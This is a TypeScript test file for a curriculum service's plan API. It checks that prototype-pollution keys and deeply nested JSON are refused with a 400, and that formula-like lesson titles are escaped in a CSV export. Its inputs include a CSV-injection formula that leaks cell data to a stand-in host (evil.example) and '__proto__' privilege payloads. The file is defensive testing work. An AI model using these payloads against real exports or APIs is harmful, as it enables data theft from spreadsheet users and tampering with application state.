// What the plan routes take and give that an attacker would try: keys that name Object.prototype members,
// nesting no plan has (both once answered 500), and lesson titles that are spreadsheet formulas (once
// exported as live formulas into the public CSV).
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import type { Plan, Problem } from '@sky/contracts';
import { createTokenIssuer } from '@sky/contracts/tokens';
import { logOptions } from '@sky/contracts/http';
import { type TestInfra, testLogger, useInfra } from '@sky/devkit';
import { parse } from 'csv-parse/sync';
import type { InjectOptions } from 'fastify';
import { Redis } from 'ioredis';
import mongoose, { type Connection } from 'mongoose';
import { createApp } from '../src/app.js';
import { generatePlan } from '../src/services/plan-generator.js';

const SECRET = 'test-secret-that-is-at-least-32-characters';
const tokens = createTokenIssuer(SECRET, 600);
const admin = { authorization: `Bearer ${tokens.sign({ sub: 'admin-1', role: 'admin' })}` };
const json = { ...admin, 'content-type': 'application/json' };

let infra: TestInfra;
let mongo: Connection;
let redis: Redis;
let app: Awaited<ReturnType<typeof createApp>>;
const plan = generatePlan({ startDate: '2027-03-01', seed: 5 });

before(async () => {
  infra = await useInfra();
  mongo = await mongoose.createConnection(infra.mongoUri).asPromise();
  redis = new Redis(infra.redisUrl);
  app = await createApp({
    logger: testLogger('curriculum', logOptions('curriculum', 'info')),
    mongo,
    redis,
    redisPrefix: infra.prefix,
    verify: (t) => tokens.verify(t),
    version: 'test',
  });
  await app.http.ready();
});
after(async () => {
  await app.close();
  redis.disconnect();
  await mongo.dropDatabase();
  await mongo.close();
  await infra.close();
});

const inject = (opts: InjectOptions) => app.http.inject(opts);

/** A 400 problem whose field errors name `path` (or a field under it, with `under`). */
function refusedAt(res: { statusCode: number; body: string }, path: string, under = false) {
  assert.equal(res.statusCode, 400, `${path}: ${res.statusCode} ${res.body.slice(0, 300)}`);
  const problem = JSON.parse(res.body) as Problem;
  assert.equal(problem.code, 'VALIDATION_FAILED');
  assert.ok(
    problem.errors?.some((e) => e.path === path || (under && e.path.startsWith(`${path}.`))),
    `expected a field error at ${path}: ${JSON.stringify(problem.errors)}`,
  );
}

test('PUT /plan refuses keys naming Object.prototype members with 400 and the field, never 500', async () => {
  const [first, ...rest] = plan.lessons;
  const cases: [string, string][] = [
    [JSON.stringify({ ...plan, toString: 1 }), 'body.toString'],
    ['{"toString": {}}', 'body.toString'],
    [JSON.stringify({ ...plan, term: { ...plan.term, toString: 'x' } }), 'body.term.toString'],
    [JSON.stringify({ ...plan, lessons: [{ ...first, valueOf: 'x' }, ...rest] }), 'body.lessons.0.valueOf'],
    ['{"__proto__": {"admin": true}}', 'body.__proto__'],
    [JSON.stringify({ ...plan, constructor: { prototype: { admin: true } } }), 'body.constructor'],
  ];
  for (const [payload, path] of cases) {
    refusedAt(await inject({ method: 'PUT', url: '/plan', headers: json, payload }), path);
  }
});

test('PUT /plan refuses nesting deeper than any plan with 400, never 500', async () => {
  const deepArray = '['.repeat(100_000) + ']'.repeat(100_000);
  refusedAt(await inject({ method: 'PUT', url: '/plan', headers: json, payload: deepArray }), 'body', true);
  const deepTerm = `{"term":${'['.repeat(5000)}${']'.repeat(5000)}}`;
  refusedAt(
    await inject({ method: 'PUT', url: '/plan', headers: json, payload: deepTerm }),
    'body.term',
    true,
  );
  // a real plan still goes in
  const ok = await inject({ method: 'PUT', url: '/plan', headers: json, payload: JSON.stringify(plan) });
  assert.equal(ok.statusCode, 200, ok.body);
});

test('lesson titles that are spreadsheet formulas leave the public CSV as text, and come back unchanged', async () => {
  const formulas = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点我")',
    '+SUM(1,2)',
    '-2+3',
    '@SUM(1)',
    "'=already quoted",
  ];
  const titled: Plan = {
    ...plan,
    lessons: plan.lessons.map((l, i) => (i < formulas.length ? { ...l, title: formulas[i]! } : l)),
  };
  const put = await inject({ method: 'PUT', url: '/plan', headers: json, payload: JSON.stringify(titled) });
  assert.equal(put.statusCode, 200, put.body);

  const csv = await inject({ url: '/plan/lessons.csv' });
  assert.equal(csv.statusCode, 200);
  const rows = parse<Record<string, string>>(csv.body.replace(/^\ufeff/, ''), { columns: true });
  for (const row of rows) {
    for (const [column, cell] of Object.entries(row)) {
      assert.ok(!/^[=+\-@\t\r]/.test(cell), `${column} starts a formula in the CSV: ${cell}`);
    }
  }
  const exported = rows.slice(0, formulas.length).map((r) => r['title']);
  assert.deepEqual(exported, [
    `'=HYPERLINK("http://evil.example/?leak="&A1,"点我")`,
    "'+SUM(1,2)",
    "'-2+3",
    "'@SUM(1)",
    "''=already quoted",
  ]);

  // the file as exported imports back to the same titles (the bureau edits the export in Excel)
  const back = await inject({
    method: 'PUT',
    url: '/plan/lessons.csv',
    headers: { ...admin, 'content-type': 'text/csv' },
    payload: csv.body,
  });
  assert.equal(back.statusCode, 200, back.body);
  const stored = (await inject({ url: '/plan' })).json<Plan>();
  assert.deepEqual(
    stored.lessons.slice(0, formulas.length).map((l) => l.title),
    formulas,
  );
});
